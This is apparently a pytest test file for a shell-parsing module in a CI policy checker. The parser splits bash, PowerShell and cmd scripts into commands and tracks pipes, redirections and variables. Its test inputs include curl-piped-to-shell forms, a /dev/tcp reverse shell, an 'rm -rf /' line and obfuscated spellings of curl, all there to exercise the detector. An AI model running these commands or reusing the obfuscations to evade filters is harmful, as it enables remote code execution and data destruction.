from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policyd.pipeline.shell import Opaque, program_name, split_arguments, split_script, strip_prefixes


def _programs(script: str) -> list[str]:
    return [command.program for command in split_script(script)]


def _pipes(script: str) -> dict[str, str]:
    return {command.program: command.pipes_to for command in split_script(script)}


@pytest.mark.parametrize(
    ("script", "argv"),
    [
        ("curl -fsSL https://x", ["curl", "-fsSL", "https://x"]),
        ("a 'b c' \"d e\" f\\ g", ["a", "b c", "d e", "f g"]),
        ('a "b \\"c\\" $X"', ["a", 'b "c" $X']),
        ("a 'it'\"'\"'s'", ["a", "it's"]),
        ("a $'b\\'c' d", ["a", "b'c", "d"]),
        ("$'\\x63url' x", ["curl", "x"]),
        ("c\"u\"'r'l x", ["curl", "x"]),
        ("a \\\n  b", ["a", "b"]),
        ("a # b | c", ["a"]),
        ("a b#c", ["a", "b#c"]),
        ("a > out 2>&1 < in b", ["a", "b"]),
        ("A=1 B='x y' a b", ["a", "b"]),
        ("sudo -u root -E a b", ["a", "b"]),
        ("env -i A=1 /usr/bin/a b", ["/usr/bin/a", "b"]),
        ("timeout -k 5 10 a", ["a"]),
        ("if ! a b; then :; fi", ["a", "b"]),
        ("a ${X:-y z} $((1 + 2)) b", ["a", "${X:-y z}", "$((1 + 2))", "b"]),
        ("command -v a", ["command", "-v", "a"]),
        ("sudo -l", ["sudo", "-l"]),
    ],
)
def test_words_are_split_where_the_shell_would(script: str, argv: list[str]) -> None:
    assert split_script(script)[0].argv == argv


@pytest.mark.parametrize(
    ("script", "programs"),
    [
        ("a; b && c || d & e", ["a", "b", "c", "d", "e"]),
        ("a | b |& c", ["a", "b", "c"]),
        ("a\nb\r\nc", ["a", "b", "c"]),
        ("(a; b) && { c; }", ["a", "b", "c"]),
        ('echo "x $(a "$(b)") `c`"', ["echo", "a", "b", "c"]),
        ("a <(b) >(c)", ["a", "b", "c"]),
        ("X=$(a) Y=`b`", ["a", "b"]),
        ("echo ${X:-$(a)} $((1 + $(b)))", ["echo", "a", "b"]),
        ("for x in 1 2; do a; done", ["a"]),
        ("while a; do b; done", ["a", "b"]),
        ("case $x in a|b) c;; (d) e;; *) f;; esac; g", ["c", "e", "f", "g"]),
        ("x=$(case y in y) a;; esac); b", ["a", "b"]),
        ("f() { a; }; function g { b; }", ["a", "b"]),
        ("cat <<E && a\nE\nb", ["cat", "a", "b"]),
        ("cat <<E | a\nE\nb", ["cat", "a", "b"]),
        ("bash <<E\na\nb\nE\nc", ["bash", "a", "b", "c"]),
        ("cat <<A; b\n1\nA\nc\nA;\n", ["cat", "b", "c", "A"]),
        ("if a; then", ["a"]),
        ("docker run x sh -c 'a; b'", ["docker", "a", "b"]),
        ("[[ -n $A && $B < 3 ]] && a", ["[[", "a"]),
        ("arr=(b c d); a", ["a"]),
        ("arr=(b) a", ["a"]),
        ("cat <<EOF\nrm -rf / | sh\nEOF\na", ["cat", "a"]),
        ("cat <<-'E F' > x\n\tb\n\tE F\na", ["cat", "a"]),
        ("cat <<A; cat <<B\n1\nA\n2\nB\na", ["cat", "cat", "a"]),
        ("sh -c 'a | b'", ["sh", "a", "b"]),
        ("bash -ec \"sh -c 'a'\"", ["bash", "sh", "a"]),
        ("", []),
        ("# only", []),
    ],
)
def test_every_command_that_is_written_out_is_found(script: str, programs: list[str]) -> None:
    assert _programs(script) == programs


@pytest.mark.parametrize(
    ("script", "program", "gets_it"),
    [
        ("curl x | sh", "curl", "sh"),
        ("curl x | sudo -E bash -s -- y", "curl", "bash"),
        ("curl x |\n  # why\n  /bin/sh", "curl", "sh"),
        ("curl x | gunzip | tee y | python3 -", "curl", "python3"),
        ("curl x | tar xz", "curl", "tar"),
        ("(cd y; curl x) | sh", "curl", "sh"),
        ("{ curl x; } | sh", "curl", "sh"),
        ("curl x | (sh)", "curl", "sh"),
        ("curl x | { sh; }", "curl", "sh"),
        ("bash <(curl x)", "curl", "bash"),
        ("source <(curl x)", "curl", "source"),
        ('eval "$(curl x)"', "curl", "eval"),
        ('sh -c "$(curl x)"', "curl", "sh"),
        ("bash <<< $(curl x)", "curl", "bash"),
        ("bash -c 'curl x' | sh", "curl", "sh"),
        ("sh -c 'curl x | sh'", "curl", "sh"),
        ("curl x | $SHELL", "curl", "$SHELL"),
        ("echo $(curl x)", "curl", ""),
        ("python3 a.py $(curl x)", "curl", ""),
        ("curl x; sh", "curl", ""),
        ("curl x && sh y", "curl", ""),
    ],
)
def test_who_gets_the_output_is_seen(script: str, program: str, gets_it: str) -> None:
    assert _pipes(script)[program] == gets_it


def test_files_that_are_written_are_named() -> None:
    commands = split_script('echo a >> "$GITHUB_ENV" 2> err; bash -i >& /dev/tcp/10.0.0.1/99 0>&1')

    assert [command.writes_to for command in commands] == [["$GITHUB_ENV", "err"], ["/dev/tcp/10.0.0.1/99"]]


def test_commands_stand_where_they_are_written() -> None:
    script = "make\n\nif x; then\n  curl a \\\n    b | sh\nfi\n"

    texts = [script[command.start : command.end] for command in split_script(script)]

    assert texts == ["make", "x", "curl a \\\n    b", "sh"]
    assert texts == [command.text for command in split_script(script)]


@pytest.mark.parametrize(
    "template",
    [
        "echo @",
        'echo "@"',
        "echo '@'",
        "echo 'it' '@ is' | cat",
        "echo $(echo @)",
        "echo ${X:-@}",
        "A=@ echo",
        "echo > @",
    ],
)
def test_a_command_says_that_an_untrusted_value_is_expanded_in_it(template: str) -> None:
    value = "${{ github['x'].y }}"
    start = template.index("@")
    script = template.replace("@", value)

    for untrusted in (True, False):
        first = split_script(script, [Opaque(start, start + len(value), untrusted)])[0]
        assert first.program == "echo"
        assert first.untrusted is untrusted


def test_an_opaque_value_is_one_word_whatever_it_holds() -> None:
    value = "${{ format('a | b; c \" d', x) }}"

    assert split_script(f"echo {value} e", [Opaque(5, 5 + len(value), False)])[0].argv == ["echo", value, "e"]


def test_an_opaque_value_in_a_comment_or_document_does_not_upset_what_follows() -> None:
    value = "${{ 'x\ny' }}"
    comment, document = f"# {value}\na", f"cat <<E\n{value}\nE\na"

    assert split_script(comment, [Opaque(2, 2 + len(value), True)])[-1].program == "a"
    assert split_script(document, [Opaque(8, 8 + len(value), True)])[-1].program == "a"


def test_argument_lists_are_commands_too() -> None:
    first, *inner = split_arguments(["sudo", "bash", "-c", "curl x | sh"])

    assert first.argv == ["bash", "-c", "curl x | sh"]
    assert [(command.program, command.pipes_to) for command in inner] == [("curl", "sh"), ("sh", "")]
    assert split_arguments(["A=1"])[0].argv == ["A=1"]


def test_program_names_are_without_their_folder() -> None:
    assert [program_name(word) for word in ("/usr/bin/curl", "./x", "curl", ".")] == ["curl", "x", "curl", "."]
    assert strip_prefixes([]) == []


def test_other_shells_escape_with_other_characters() -> None:
    assert split_script("a C:\\b\\c `\nd", shell="pwsh")[0].argv == ["a", "C:\\b\\c", "d"]


def test_no_more_commands_than_asked_for_come_back() -> None:
    assert len(split_script("a;" * 100, max_commands=10)) == 11


@pytest.mark.parametrize(
    "unit",
    [
        "$(",
        "`",
        "(",
        "'",
        '"',
        "${",
        "$((",
        "a|",
        "a;",
        "case x in ",
        "<<E\n",
        "[[ ",
        "a=(",
        "\\",
        "<(",
        '"$(',
        "bash -c '",
    ],
)
def test_hostile_repetition_ends_quickly(unit: str) -> None:
    start = time.process_time()

    split_script(unit * 50_000)

    assert time.process_time() - start < 5  # quadratic work takes minutes here


_SHELLISH = st.text(st.sampled_from(list("ab \n\t'\"\\`$(){}[]<>|&;#=!*EOF-0")), max_size=60)


@given(_SHELLISH, st.integers(0, 60), st.integers(1, 20))
@settings(max_examples=500, deadline=None)
def test_any_text_gives_commands_within_the_script(script: str, start: int, length: int) -> None:
    end = min(start + length, len(script))
    opaque = [Opaque(start, end, True)] if start < end else []

    for command in split_script(script, opaque):
        assert 0 <= command.start <= command.end <= len(script)
        assert command.argv
        assert command.program == program_name(command.argv[0])


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=8), min_size=1))
@settings(max_examples=200, deadline=None)
def test_quoted_words_come_back_as_they_were(words: list[str]) -> None:
    import shlex

    script = shlex.join(["x", *words])

    assert split_script(script)[0].argv == ["x", *words]


def test_scripts_in_quotes_and_documents_stand_where_they_are_written() -> None:
    script = "bash -ec '\n  a\n  b\n'\nsh <<'E'\nc | d\nE\n"

    texts = [script[command.start : command.end] for command in split_script(script)]

    assert texts == ["bash -ec '\n  a\n  b\n'", "a", "b", "sh <<'E'", "c", "d"]


def test_offsets_count_characters() -> None:
    script = "echo 'ä€𝄞' && b\nécho ü | c é\n"

    texts = [script[command.start : command.end] for command in split_script(script)]

    assert texts == ["echo 'ä€𝄞'", "b", "écho ü", "c é"]
    assert split_script(script)[2].argv == ["écho", "ü"]


def test_variables_are_told_from_text() -> None:
    command = split_script("A=$B c \"$D\" '$E' \\$F ${G:-x} $(h $I) $1 <<< $J")[0]

    assert command.expands == {"D", "G", "J"}
    assert command.reads == {"B", "D", "G", "I", "J"}
    assert [(one.name, one.value, one.reads) for one in command.sets] == [("A", "$B", frozenset("B"))]


def test_what_is_set_before_a_command_is_known_to_it() -> None:
    first, second = split_script('X="$A"; Y=$(z $X); export Q=1\nfor i in $B; do a; done')[-2:]

    assert [one.name for one in first.sets] == ["Y", "Q"]
    assert first.sets[0].computed
    assert [(one.name, one.reads) for one in second.sets] == [("i", frozenset("B"))]


def test_failures_that_are_ignored_are_told_from_those_asked_for() -> None:
    def told(script: str) -> tuple[bool, bool]:
        command = split_script(script)[0]
        return command.tested, command.ignored

    assert told("a || true") == (True, True)
    assert told("a || echo failed") == (True, True)
    assert told("a | b || :") == (True, True)
    assert told("a || exit 1") == (True, False)
    assert told("if a; then b; fi") == (True, False)
    assert told("! a") == (True, False)
    assert told("a; true") == (False, False)


def test_documents_and_groups_are_input_and_output() -> None:
    (cat,) = split_script("cat <<EOF >> $F\nx $A\nEOF\n")
    one, two = split_script("{ echo a; echo b > g; } >> f")

    assert (cat.stdin, cat.reads, cat.writes_to, cat.saved) == ("x $A\n", frozenset("AF"), ["$F"], True)
    assert (one.writes_to, two.writes_to) == (["f"], ["g"])
    assert split_script("a 2> err")[0].saved is False


def test_functions_are_named_around_their_commands() -> None:
    assert [command.function for command in split_script("f() { a; }\nf\n")] == ["f", ""]


def test_powershell_is_tokenised() -> None:
    script = "if ($x) { $r = Get-Thing -Name 'a b' | Out-File \"$env:F\" }\n# c\n& tool.exe `\n  x > out; a && b"

    commands = split_script(script, shell="pwsh")

    assert [command.program for command in commands] == ["$x", "Get-Thing", "Out-File", "tool", "a", "b"]
    assert commands[1].argv == ["Get-Thing", "-Name", "a b"]
    assert commands[1].pipes_to == "Out-File"
    assert commands[2].reads == {"F"}
    assert (commands[3].argv[1:], commands[3].writes_to) == (["x"], ["out"])


def test_cmd_is_tokenised() -> None:
    commands = split_script('@echo off\nREM a\nset X=%Y%\ncall b.cmd "c d" & e>>%F% || f', shell="cmd")

    assert [command.program for command in commands] == ["echo", "set", "b", "e", "f"]
    assert commands[1].sets[0][:3] == ("X", "%Y%", frozenset("Y"))
    assert (commands[2].argv, commands[3].writes_to) == (["b.cmd", "c d"], ["%F%"])


def test_a_script_in_another_language_is_one_command() -> None:
    (command,) = split_script("import os\n", shell="python")

    assert (command.program, command.argv, command.stdin) == ("python", ["python"], "import os\n")


def test_long_scripts_are_read_in_parts_and_wholly() -> None:
    lines = [f'echo "{number}" && run-{number} | sh' for number in range(1000)]
    script = "\n".join([*lines, "cat <<EOF", *["text"] * 2000, "EOF", "last"])

    commands = split_script(script)

    assert [command.program for command in commands[:3]] == ["echo", "run-0", "sh"]
    assert len(commands) == 3002
    assert commands[-1].program == "last"
    assert all(script[command.start : command.end] == command.text for command in commands)


def test_text_that_no_grammar_takes_is_still_looked_at() -> None:
    script = "a 'b'\nif x; then ;; fi }\ncurl u | sh\n$(( \nwget v | bash"

    pipes = {command.program: command.pipes_to for command in split_script(script)}

    assert pipes["a"] == ""
    assert pipes["curl"] == "sh"
    assert pipes["wget"] == "bash"


@pytest.mark.parametrize("shell", ["bash", "pwsh", "cmd"])
@pytest.mark.parametrize(
    "unit",
    [
        "f(){ for a in ",
        "declare =(",
        "[0]=",
        "((f(){ ",
        "case x in a) b;; ",
        "a <<E\n",
        "$[[0]=",
        "@{",
        '"$(`',
        "a | (",
        "%x%|",
    ],
)
def test_hostile_repetition_is_linear_in_every_shell(shell: str, unit: str) -> None:
    start = time.process_time()

    split_script(unit * 5_000, shell=shell)

    assert time.process_time() - start < 5  # quadratic work takes minutes here


@given(_SHELLISH, st.sampled_from(["bash", "pwsh", "cmd"]), st.integers(0, 60), st.integers(1, 20))
@settings(max_examples=300, deadline=None)
def test_any_text_in_any_shell_gives_commands_within_it(script: str, shell: str, start: int, length: int) -> None:
    end = min(start + length, len(script))
    opaque = [Opaque(start, end, True)] if start < end else []

    for command in split_script(script, opaque, shell=shell):
        assert 0 <= command.start <= command.end <= len(script)
        assert command.argv
        assert command.program


def test_here_documents_that_never_begin_are_empty() -> None:
    """Found by the fuzzer: two of them, and the script ends behind the first."""
    for shell in ("bash", "pwsh", "cmd"):
        assert split_script("a <<<<<<x <<y | (\nz", shell=shell)


@pytest.mark.parametrize(
    ("script", "words"),
    [
        (
            'echo a\necho "$S" | tr -d x | ssh-add -\n[ -n "$K" ] || { echo no; exit 1; }\nls',
            ["echo a", "echo $S", "tr -d x", "ssh-add -", '[ -n "$K" ]', "echo no", "exit 1", "ls"],
        ),
        (
            'if x; then\n  echo "$S" | tr -d x | ssh-add -\n  [ -n "$K" ] || { echo no; exit 1; }\nfi',
            ["x", "echo $S", "tr -d x", "ssh-add -", '[ -n "$K" ]', "echo no", "exit 1"],
        ),
        ("a | b - \\\n  -y\n[ -n x ] || d", ["a", "b - -y", "[ -n x ]", "d"]),
    ],
)
def test_a_line_behind_a_pipeline_is_a_command_of_its_own(script: str, words: list[str]) -> None:
    assert [" ".join(command.argv) for command in split_script(script)] == words


def test_what_stands_behind_the_last_command_of_a_list_is_its_own() -> None:
    first, last = split_script('echo "$S" && b > file')
    assert (first.saved, last.saved, last.writes_to) == (False, True, ["file"])

    first, last = split_script("a || cat <<EOF > file\nx\nEOF")
    assert (first.stdin, last.stdin, last.saved) == ("", "x\n", True)


def test_a_document_of_another_shell_says_whether_its_variables_are_filled_in() -> None:
    pasted = split_script("ssh h <<EOF\ngit checkout $B\nEOF")
    kept = split_script("ssh h <<'EOF'\ngit checkout $B\nEOF")

    assert [command.pasted for command in pasted] == [False, True]
    assert [command.pasted for command in kept] == [False, False]
    assert pasted[0].stdin_at == len("ssh h <<EOF\n")
